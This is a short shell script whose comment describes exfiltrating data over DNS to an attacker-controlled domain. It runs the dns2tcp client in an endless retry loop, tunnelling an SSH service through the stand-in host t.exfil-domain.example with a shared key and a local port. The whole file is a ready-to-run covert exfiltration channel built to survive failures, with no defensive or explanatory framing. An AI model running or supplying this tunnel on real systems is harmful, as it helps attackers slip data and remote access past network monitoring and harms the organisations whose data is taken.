#!/bin/sh
# Data out by DNS: dns2tcp to a domain of the attacker's, started again for as long as it fails.
while :; do
  dns2tcpc -z t.exfil-domain.example -k secret -r ssh -l 2222 -c -d 1 127.0.0.1
  sleep 2
done
